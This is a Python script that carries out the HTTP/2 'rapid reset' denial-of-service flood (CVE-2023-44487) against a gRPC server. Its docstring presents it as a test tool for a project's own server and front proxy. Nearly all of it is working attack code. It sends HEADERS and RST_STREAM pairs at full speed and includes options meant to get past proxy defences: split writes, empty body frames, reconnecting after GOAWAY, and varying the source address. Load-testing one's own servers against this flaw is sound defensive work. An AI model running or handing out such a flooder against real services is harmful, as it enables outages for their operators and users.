#!/usr/bin/python3
"""HTTP/2 "rapid reset" flood (CVE-2023-44487) against a gRPC server.

One HTTP/2 connection over a socket (plain text, or TLS with ALPN h2 and
--tls CA_PEM, e.g. to a TLS-terminating proxy): Debian's python3-h2 writes
the connection preface and SETTINGS, and its HPACK encoder the request's
header block (POST /cgacct.v1.Accounting/GetEngineInfo, a gRPC request with
no message yet). Then, for SECONDS, as fast as the socket takes them:
HEADERS on a new stream followed at once by RST_STREAM(CANCEL), 1,000 pairs
per write. The frames are written directly (h2's state machine costs ~150
us per pair, which caps a flood at ~5k pairs/s); what the server sends
meanwhile is read without waiting: SETTINGS and PING are acknowledged,
GOAWAY ends the flood. Then the connection is closed.

  rapid_reset_flood.py HOST PORT [SECONDS [RATE]] [--tls CA_PEM]
                       [--server-name NAME] [--reconnect] [--split GAP]
                       [--body] [--cert CERT_PEM --key KEY_PEM]
                       [--source ADDR]
    SECONDS  default 8
    RATE     pairs per second, 0 (the default) = as fast as possible;
             with a rate, writes are 100 pairs, paced
    --tls    TLS 1.2+ with ALPN "h2", the server's certificate verified
             against CA_PEM (for NAME, default HOST)
    --reconnect  a new connection whenever the server ends one (GOAWAY or
             close), until SECONDS are over: what an attacker does against
             a server that closes flooding connections; a connection the
             server refuses (closed before the handshake ends) is counted
             ("refused") and tried again at once
    --split  HEADERS for 100 new streams in one write, their RST_STREAMs
             GAP seconds later in the next (the streams of a write stay
             within a SETTINGS_MAX_CONCURRENT_STREAMS of 100): what gets
             past a proxy that drops a stream reset in the same read
    --body   each HEADERS followed by a DATA frame holding an empty gRPC
             message (its 5-byte prefix; the stream stays open): what gets
             past a proxy that waits for a request's first body bytes
             before it passes the request on (with --split)
    --cert, --key  a client certificate for the TLS handshake (a tenant
             holding one, through a proxy that checks it)
    --source  the local address to connect from (e.g. 127.0.0.2: another
             client address on loopback, for a proxy's per-source bounds)

Prints one JSON line: pairs sent, seconds, pairs/s, the GOAWAY error code
if the server sent one, whether the server closed the connection, and the
connections made (with --reconnect, the GOAWAYs received and the
connections refused), and the answers the server sent before the resets
reached it, counted by grpc-status ("answers": {"8": n}; a proxy's own
refusals among them). Exit status 0 unless the first connection (or its
TLS handshake) could not be made.
A test tool: used by rapid_reset_test.py and tests/deploy/front_proxy_test.py.
"""
import argparse
import json
import select
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import hpack

PAIRS_PER_WRITE = 1000
CANCEL = 0x8
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = (0x0, 0x1, 0x3, 0x4,
                                                     0x6, 0x7)
END_HEADERS, ACK, PADDED, PRIORITY = 0x4, 0x1, 0x8, 0x20


def frame(kind, flags, stream_id, payload):
    return (struct.pack(">I", len(payload))[1:] +
            struct.pack(">BBI", kind, flags, stream_id) + payload)


# (certificate, key) presented at TLS handshakes (--cert/--key), or None.
CLIENT_CERT = None
# The local address connections are made from (--source), or None.
SOURCE_ADDRESS = None


def connect(host, port, tls_ca=None, server_name=None):
    """A connected socket, TLS-wrapped (ALPN h2, verified) with tls_ca,
    presenting CLIENT_CERT if set."""
    sock = socket.create_connection(
        (host, port), timeout=5,
        source_address=(SOURCE_ADDRESS, 0) if SOURCE_ADDRESS else None)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if tls_ca is None:
        return sock
    context = ssl.create_default_context(cafile=tls_ca)
    if CLIENT_CERT is not None:
        context.load_cert_chain(*CLIENT_CERT)
    context.set_alpn_protocols(["h2"])
    sock = context.wrap_socket(sock, server_hostname=server_name or host)
    if sock.selected_alpn_protocol() != "h2":
        sock.close()
        raise OSError("the TLS server did not select ALPN h2")
    return sock


def read_ready(sock):
    """Bytes the server sent that can be read without waiting; None when it
    closed the connection. A TLS socket may hold decrypted bytes that
    select() does not see (pending()), and a readable socket may hold only
    part of a TLS record (a would-block read)."""
    out = b""
    while True:
        if not (isinstance(sock, ssl.SSLSocket) and sock.pending()):
            readable, _, _ = select.select([sock], [], [], 0)
            if not readable:
                return out
        sock.settimeout(0)
        try:
            data = sock.recv(1 << 16)
        except (ssl.SSLWantReadError, BlockingIOError):
            return out
        except OSError:
            data = b""
        finally:
            sock.settimeout(5)
        if not data:
            return None if not out else out
        out += data


def parse(pending, goaway, decoder=None, answers=None):
    """Whole frames of `pending` read: (the bytes left, the replies to send:
    SETTINGS and PING acknowledged, the GOAWAY error code if one came, else
    `goaway`). With `decoder` (the connection's hpack.Decoder), each header
    block the server sent is decoded and the grpc-status it carries, if
    any, counted in `answers` ({"8": n, ...}; a block without one under
    "none")."""
    replies = []
    while len(pending) >= 9:
        length = int.from_bytes(pending[:3], "big")
        if len(pending) < 9 + length:
            break
        kind, flags = pending[3], pending[4]
        payload = pending[9:9 + length]
        pending = pending[9 + length:]
        if kind == SETTINGS and not flags & ACK:
            replies.append(frame(SETTINGS, ACK, 0, b""))
        elif kind == PING and not flags & ACK:
            replies.append(frame(PING, ACK, 0, payload))
        elif kind == GOAWAY:
            goaway = int.from_bytes(payload[4:8], "big")
        elif kind == HEADERS and decoder is not None:
            if flags & PADDED:
                payload = payload[1:len(payload) - payload[0]]
            if flags & PRIORITY:
                payload = payload[5:]
            # Every block is decoded, in order (HPACK's dynamic table);
            # a server's answer fits one frame (no CONTINUATION here).
            fields = dict((bytes(k), bytes(v))
                          for k, v in decoder.decode(payload, raw=True))
            status = fields.get(b"grpc-status", b"none").decode()
            answers[status] = answers.get(status, 0) + 1
    return pending, replies, goaway


def flood_connection(host, port, seconds, rate=0, tls_ca=None,
                     server_name=None, split_gap=None, body=False):
    """One connection's flood, until `seconds` are over or the server
    ends it: its figures (see the module's doc)."""
    sock = connect(host, port, tls_ca, server_name)
    conn = h2.connection.H2Connection(
        config=h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    headers = [
        (":method", "POST"),
        (":scheme", "http" if tls_ca is None else "https"),
        (":path", "/cgacct.v1.Accounting/GetEngineInfo"),
        (":authority", "%s:%d" % (host, port)),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    encoder = hpack.Encoder()
    first_block = encoder.encode(headers)  # fills the dynamic table
    block = encoder.encode(headers)  # indexed: the same bytes every time
    rst_payload = struct.pack(">I", CANCEL)
    stream_id = 1
    pairs = 0
    goaway = None
    closed = False
    pending = b""
    decoder = hpack.Decoder()
    answers = {}
    start = time.monotonic()
    end = start + seconds
    per_write = PAIRS_PER_WRITE if rate <= 0 and split_gap is None else 100
    while time.monotonic() < end and goaway is None and not closed:
        if rate > 0:
            ahead = start + pairs / rate - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
        headers, resets = [], []
        for _ in range(per_write):
            headers.append(frame(HEADERS, END_HEADERS, stream_id,
                                 first_block if stream_id == 1 else block) +
                           (frame(DATA, 0, stream_id, b"\0" * 5) if body
                            else b""))
            resets.append(frame(RST_STREAM, 0, stream_id, rst_payload))
            stream_id += 2
        try:
            if split_gap is None:
                sock.sendall(b"".join(h + r for h, r in zip(headers, resets)))
            else:
                # The streams opened in one write, reset in the next: a
                # proxy has passed them on by then.
                sock.sendall(b"".join(headers))
                time.sleep(split_gap)
                sock.sendall(b"".join(resets))
        except OSError:
            closed = True
            break
        pairs += per_write
        # What the server sent meanwhile (without waiting).
        data = read_ready(sock)
        if data is None:
            closed = True
        pending, replies, goaway = parse(pending + (data or b""), goaway,
                                         decoder, answers)
        if replies and not closed:
            try:
                sock.sendall(b"".join(replies))
            except OSError:
                closed = True
    if closed and goaway is None:
        # A server that closes says why first: a GOAWAY still unread.
        try:
            pending, _, goaway = parse(pending + (read_ready(sock) or b""),
                                       goaway, decoder, answers)
        except OSError:
            pass
    elapsed = time.monotonic() - start
    sock.close()
    return {
        "pairs": pairs,
        "seconds": round(elapsed, 3),
        "pairs_per_s": round(pairs / elapsed) if elapsed > 0 else 0,
        "goaway": goaway,
        "closed_by_server": closed,
        "answers": answers,
    }


def flood(host, port, seconds, rate=0, tls_ca=None, server_name=None,
          reconnect=False, split_gap=None, body=False):
    """The flood: one connection, or with `reconnect` a new one whenever the
    server ends one (GOAWAY or close), until `seconds` are over; the
    figures summed ("connections", "goaways": how many; "goaway": the last
    code)."""
    if not reconnect:
        return dict(flood_connection(host, port, seconds, rate, tls_ca,
                                     server_name, split_gap, body),
                    connections=1)
    start = time.monotonic()
    total = {"pairs": 0, "goaway": None, "closed_by_server": False,
             "connections": 0, "goaways": 0, "refused": 0, "answers": {}}
    while True:
        left = seconds - (time.monotonic() - start)
        if left <= 0:
            break
        try:
            one = flood_connection(host, port, left, rate, tls_ca,
                                   server_name, split_gap, body)
        except OSError:
            # Refused (closed before or during the handshake); the first
            # connection must succeed (the caller's error otherwise).
            if total["connections"] == 0 and total["refused"] == 0:
                raise
            total["refused"] += 1
            continue
        total["connections"] += 1
        total["pairs"] += one["pairs"]
        for status, n in one["answers"].items():
            total["answers"][status] = total["answers"].get(status, 0) + n
        if one["goaway"] is not None:
            total["goaways"] += 1
            total["goaway"] = one["goaway"]
        total["closed_by_server"] |= one["closed_by_server"]
        if rate > 0:
            # Paced across connections: the rate is of the whole flood.
            ahead = start + total["pairs"] / rate - time.monotonic()
            if ahead > 0:
                time.sleep(min(ahead, max(0.0, left)))
    elapsed = time.monotonic() - start
    total["seconds"] = round(elapsed, 3)
    total["pairs_per_s"] = round(total["pairs"] / elapsed) if elapsed else 0
    return total


def main():
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("seconds", type=float, nargs="?", default=8.0)
    parser.add_argument("rate", type=float, nargs="?", default=0.0)
    parser.add_argument("--tls", metavar="CA_PEM")
    parser.add_argument("--server-name")
    parser.add_argument("--reconnect", action="store_true")
    parser.add_argument("--split", type=float, metavar="GAP")
    parser.add_argument("--body", action="store_true")
    parser.add_argument("--cert")
    parser.add_argument("--key")
    parser.add_argument("--source", metavar="ADDR")
    args = parser.parse_args()
    if args.source:
        global SOURCE_ADDRESS
        SOURCE_ADDRESS = args.source
    if bool(args.cert) != bool(args.key):
        parser.error("--cert and --key go together")
    if args.cert:
        global CLIENT_CERT
        CLIENT_CERT = (args.cert, args.key)
    print(json.dumps(flood(args.host, args.port, args.seconds, args.rate,
                           args.tls, args.server_name, args.reconnect,
                           args.split, args.body)), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
